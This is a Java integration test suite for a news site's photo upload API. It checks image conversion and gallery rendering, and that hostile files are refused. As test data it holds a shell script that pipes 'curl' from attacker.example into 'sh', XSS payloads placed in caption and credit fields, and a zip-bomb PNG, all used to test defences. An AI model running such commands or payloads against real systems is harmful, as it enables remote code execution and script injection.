package org.veche.media;

import static org.assertj.core.api.Assertions.assertThat;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import javax.imageio.ImageIO;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.veche.identity.Role;
import org.veche.support.Http;
import org.veche.support.IntegrationTest;

import tools.jackson.databind.JsonNode;

/**
 * Photos uploaded over the API: what comes out for JPEG, PNG and WebP, how the article
 * page shows them, and how hostile files are refused with a 4xx problem, never a 5xx.
 */
class PhotoUploadIT extends IntegrationTest {

	private String editorToken;

	private String slug;

	@org.springframework.beans.factory.annotation.Autowired
	private org.veche.site.SiteProperties site;

	@BeforeEach
	void article() {
		editorToken = tokenFor(Role.EDITOR);
		slug = publishArticle(editorToken, "Photo desk " + unique());
	}

	private Http.Response upload(String name, String contentType, byte[] bytes, Map<String, String> texts) {
		var parts = new LinkedHashMap<String, Object>();
		parts.put("file", new Http.FilePart(name, contentType, bytes));
		parts.putAll(texts);
		return http.bearer(editorToken).postMultipart("/api/v1/articles/" + slug + "/photos", parts);
	}

	private Http.Response upload(String name, String contentType, byte[] bytes) {
		return upload(name, contentType, bytes, Map.of());
	}

	/** A served file as bytes, with its content type. */
	record Served(int status, String contentType, byte[] bytes) {

		BufferedImage image() throws IOException {
			return ImageIO.read(new ByteArrayInputStream(bytes));
		}

	}

	static Served fetch(String url) throws IOException, InterruptedException {
		try (var client = HttpClient.newHttpClient()) {
			var response = client.send(HttpRequest.newBuilder(URI.create(url)).build(),
					HttpResponse.BodyHandlers.ofByteArray());
			return new Served(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
					response.body());
		}
	}

	/**
	 * Every variant the answer lists, fetched: each must be a JPEG of its stated width.
	 */
	private List<Served> assertVariantsServedAsJpeg(JsonNode stored) throws IOException, InterruptedException {
		var served = new java.util.ArrayList<Served>();
		String largest = stored.get("url").asString();
		String base = largest.substring(0, largest.lastIndexOf('/') + 1);
		for (var width : stored.get("widths")) {
			var variant = fetch(base + width.asInt() + ".jpg");
			assertThat(variant.status()).isEqualTo(200);
			assertThat(variant.contentType()).isEqualTo("image/jpeg");
			assertThat(variant.bytes()).startsWith((byte) 0xff, (byte) 0xd8);
			var image = variant.image();
			assertThat(image.getWidth()).isEqualTo(width.asInt());
			assertThat(image.getHeight()).isEqualTo(Math.max(1,
					Math.round((float) stored.get("height").asInt() * width.asInt() / stored.get("width").asInt())));
			served.add(variant);
		}
		return served;
	}

	private static void assertProblem(Http.Response response, int status, String detail) {
		assertThat(response.status()).as(response.toString()).isEqualTo(status);
		assertThat(response.header("Content-Type")).startsWith("application/problem+json");
		assertThat(response.json().get("detail").asString()).isEqualTo(detail);
	}

	@Test
	void aJpegBecomesResponsiveJpegVariants() throws Exception {
		var response = upload("harbour.jpg", "image/jpeg", TestImages.jpeg(1000, 600));

		assertThat(response.status()).as(response.toString()).isEqualTo(201);
		var stored = response.json();
		assertThat(stored.get("width").asInt()).isEqualTo(1000);
		assertThat(stored.get("height").asInt()).isEqualTo(600);
		assertThat(stored.get("widths").valueStream().map(JsonNode::asInt).toList()).containsExactly(480, 960);
		assertThat(stored.get("srcset").asString())
			.matches("/media/[0-9a-f]+/480\\.jpg 480w, /media/[0-9a-f]+/960\\.jpg 960w");
		assertThat(response.header("Location")).isEqualTo(stored.get("url").asString()).endsWith("/960.jpg");
		assertVariantsServedAsJpeg(stored);
	}

	@Test
	void aPngBecomesJpegVariants() throws Exception {
		var response = upload("chart.png", "image/png", TestImages.png(1700, 400));

		assertThat(response.status()).as(response.toString()).isEqualTo(201);
		var stored = response.json();
		assertThat(stored.get("widths").valueStream().map(JsonNode::asInt).toList()).containsExactly(480, 960, 1600);
		assertThat(stored.get("srcset").asString()).contains("1600w");
		assertVariantsServedAsJpeg(stored);
	}

	@Test
	void aLosslessWebpIsReadAndServedAsJpeg() throws Exception {
		byte[] webp = TestImages.webp();
		var decodedHere = ImageIO.read(new ByteArrayInputStream(webp));
		assertThat(decodedHere).as("the hand-made WebP is valid").isNotNull();
		assertThat(new Color(decodedHere.getRGB(0, 0))).isEqualTo(Color.RED);
		assertThat(new Color(decodedHere.getRGB(1, 0))).isEqualTo(Color.BLUE);

		var response = upload("dot.webp", "image/webp", webp);

		assertThat(response.status()).as(response.toString()).isEqualTo(201);
		var stored = response.json();
		assertThat(stored.get("width").asInt()).isEqualTo(2);
		assertThat(stored.get("height").asInt()).isEqualTo(2);
		assertThat(stored.get("widths").valueStream().map(JsonNode::asInt).toList()).containsExactly(2);
		assertThat(stored.get("srcset").asString()).endsWith("/2.jpg 2w");
		assertVariantsServedAsJpeg(stored);
	}

	@Test
	void theArticlePageShowsTheGalleryWithSrcsetCaptionCreditAndAlt() {
		var first = upload("one.jpg", "image/jpeg", TestImages.jpeg(1000, 600), Map.of("caption",
				"Fishing boats at dawn", "credit", "Ivan Franko", "alt", "Three boats on a calm sea"));
		var second = upload("two.png", "image/png", TestImages.png(600, 600),
				Map.of("caption", "The harbour master", "credit", "Lesya Ukrainka", "alt", "A woman with a logbook"));
		assertThat(first.status()).isEqualTo(201);
		assertThat(second.status()).isEqualTo(201);

		var page = http.with("Accept", "text/html").get("/articles/" + slug).html();

		var figures = page.select("section.gallery figure.photo");
		assertThat(figures).hasSize(2);
		var img = figures.get(0).selectFirst("img");
		assertThat(img.attr("srcset")).isEqualTo(first.json().get("srcset").asString());
		assertThat(img.attr("alt")).isEqualTo("Three boats on a calm sea");
		assertThat(img.attr("sizes")).isNotBlank();
		assertThat(img.attr("width")).isEqualTo("960");
		assertThat(img.attr("height")).isEqualTo("576");
		assertThat(figures.get(0).selectFirst("figcaption .caption").text()).isEqualTo("Fishing boats at dawn");
		assertThat(figures.get(0).selectFirst("figcaption .credit").text()).isEqualTo("Photo: Ivan Franko");
		assertThat(figures.get(1).selectFirst("img").attr("alt")).isEqualTo("A woman with a logbook");
		assertThat(figures.get(1).selectFirst("figcaption .credit").text()).isEqualTo("Photo: Lesya Ukrainka");

		var api = http.get("/api/v1/articles/" + slug).json().get("photos");
		assertThat(api.size()).isEqualTo(2);
		assertThat(api.get(0).get("caption").asString()).isEqualTo("Fishing boats at dawn");
		assertThat(api.get(0).get("credit").asString()).isEqualTo("Ivan Franko");
		assertThat(api.get(0).get("alt").asString()).isEqualTo("Three boats on a calm sea");
	}

	@Test
	void captionMarkupIsShownAsTextNotRun() {
		var response = upload("x.jpg", "image/jpeg", TestImages.jpeg(500, 300), Map.of("caption",
				"<script>alert(1)</script>", "credit", "\"><img src=x onerror=alert(2)>", "alt", "a"));
		assertThat(response.status()).isEqualTo(201);

		var page = http.with("Accept", "text/html").get("/articles/" + slug).html();

		var figure = page.selectFirst("section.gallery figure.photo");
		assertThat(figure.selectFirst(".caption").text()).isEqualTo("<script>alert(1)</script>");
		assertThat(figure.select("script, [onerror]")).isEmpty();
		assertThat(figure.select("img")).hasSize(1);
	}

	@Test
	void aTruncatedJpegIsRefusedWith422() {
		byte[] jpeg = TestImages.jpeg(800, 600);
		byte[] truncated = Arrays.copyOf(jpeg, jpeg.length / 2);

		assertProblem(upload("cut.jpg", "image/jpeg", truncated), 422,
				"This image is damaged or incomplete and cannot be read.");
	}

	@Test
	void aJpegCutRightAfterItsHeaderIsRefusedWith422() {
		byte[] jpeg = TestImages.jpeg(800, 600);

		assertProblem(upload("stub.jpg", "image/jpeg", Arrays.copyOf(jpeg, 700)), 422,
				"This image is damaged or incomplete and cannot be read.");
	}

	@Test
	void aShellScriptNamedLikeAPhotoIsRefusedWith415() {
		byte[] script = "#!/bin/sh\ncurl -s http://attacker.example/x | sh\n".getBytes(StandardCharsets.US_ASCII);

		assertProblem(upload("photo.jpg", "image/jpeg", script), 415, "This file is not a JPEG, PNG or WebP image.");
	}

	@Test
	void anImageFormatTheSiteDoesNotServeIsRefusedWith415() throws IOException {
		var gif = new java.io.ByteArrayOutputStream();
		ImageIO.write(TestImages.picture(20, 20), "gif", gif);

		assertProblem(upload("anim.gif", "image/gif", gif.toByteArray()), 415,
				"This file is not a JPEG, PNG or WebP image.");
	}

	@Test
	void aPngClaimingTenBillionPixelsIsRefusedWith422BeforeDecoding() {
		// Decoding it would need 40 GB: a quick 422 shows the size was checked from the
		// header alone.
		var response = upload("huge.png", "image/png", TestImages.pngClaiming(100_000, 100_000));

		assertProblem(response, 422, "This image is too large: at most 60 million pixels.");
	}

	@Test
	void theUploadedFileIsNotKeptByDefault() throws Exception {
		var response = upload("kept.jpg", "image/jpeg", TestImages.jpeg(500, 300));

		assertThat(response.status()).isEqualTo(201);
		var originals = site.dataDir().resolve("originals");
		assertThat(!java.nio.file.Files.exists(originals) || java.nio.file.Files.list(originals).findAny().isEmpty())
			.as("no original under " + originals)
			.isTrue();
	}

	@Test
	void aZipBombPngIsRefusedWith422WithoutInflatingIt() {
		// 40,000 by 40,000 pixels: about 200 MB of zeros when inflated, 1.6 billion
		// pixels when decoded.
		byte[] bomb = TestImages.pngBomb(40_000, 40_000);
		assertThat(bomb.length).as("the bomb is small on the wire").isLessThan(1_000_000);

		var response = upload("crowd.png", "image/png", bomb);

		assertProblem(response, 422, "This image is too large: at most 60 million pixels.");
	}

	@Test
	void anEmptyFileIsRefusedWith400() {
		assertProblem(upload("empty.jpg", "image/jpeg", new byte[0]), 400, "Choose a photo to upload.");
	}

	@Test
	void anUploadWithoutAFilePartIsRefusedWith400() {
		var response = http.bearer(editorToken)
			.postMultipart("/api/v1/articles/" + slug + "/photos", Map.of("caption", "no file"));

		assertProblem(response, 400, "Choose a photo to upload.");
	}

	@Test
	void anUploadToAnUnknownArticleIsA404Problem() {
		var response = http.bearer(editorToken)
			.postMultipart("/api/v1/articles/no-such-article-" + unique() + "/photos",
					Map.of("file", new Http.FilePart("a.jpg", "image/jpeg", TestImages.jpeg(100, 100))));

		assertProblem(response, 404, "No such article.");
	}

	@Test
	void uploadingNeedsAnEditorsToken() {
		var parts = Map.<String, Object>of("file", new Http.FilePart("a.jpg", "image/jpeg", TestImages.jpeg(100, 100)));

		assertThat(http.postMultipart("/api/v1/articles/" + slug + "/photos", parts).status()).isEqualTo(401);
		assertThat(http.bearer(tokenFor(Role.READER))
			.postMultipart("/api/v1/articles/" + slug + "/photos", parts)
			.status()).isEqualTo(403);
	}

	@Test
	void noHostileUploadIsAnsweredWithAServerError() {
		byte[] jpeg = TestImages.jpeg(640, 480);
		byte[] png = TestImages.png(300, 200);
		byte[] webp = TestImages.webp();
		var refused = new LinkedHashMap<String, byte[]>();
		refused.put("jpeg header only", Arrays.copyOf(jpeg, 20));
		refused.put("png cut in its data", Arrays.copyOf(png, png.length / 2));
		refused.put("png of zero pixels", TestImages.pngClaiming(0, 0));
		refused.put("png claiming the largest size", TestImages.pngClaiming(Integer.MAX_VALUE, Integer.MAX_VALUE));
		refused.put("webp cut in its header", Arrays.copyOf(webp, 23));
		refused.put("riff header only", Arrays.copyOf(webp, 12));
		refused.put("one byte", new byte[] { (byte) 0xff });
		refused.put("html", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8));
		refused.put("zeros", new byte[4096]);
		// Damage a decoder may read through: stored or refused are both fine, failing is
		// not.
		var damaged = new LinkedHashMap<String, byte[]>();
		damaged.put("jpeg without its end marker", Arrays.copyOf(jpeg, jpeg.length - 2));
		damaged.put("jpeg bytes flipped", flip(jpeg, 24));
		damaged.put("jpeg data flipped", flip(jpeg, jpeg.length / 2));
		damaged.put("png bytes flipped", flip(png, 40));

		for (var file : refused.entrySet()) {
			var response = upload("file.jpg", "image/jpeg", file.getValue());

			assertThat(response.status()).as(file.getKey() + ": " + response).isBetween(400, 499);
			assertThat(response.header("Content-Type")).as(file.getKey()).startsWith("application/problem+json");
			assertThat(response.json().get("detail").asString()).as(file.getKey()).isNotBlank();
		}
		for (var file : damaged.entrySet()) {
			var response = upload("file.jpg", "image/jpeg", file.getValue());

			assertThat(response.status()).as(file.getKey() + ": " + response).isIn(201, 400, 415, 422);
		}
	}

	private static byte[] flip(byte[] bytes, int from) {
		byte[] flipped = bytes.clone();
		for (int i = from; i < flipped.length; i += 7) {
			flipped[i] = (byte) ~flipped[i];
		}
		return flipped;
	}

}
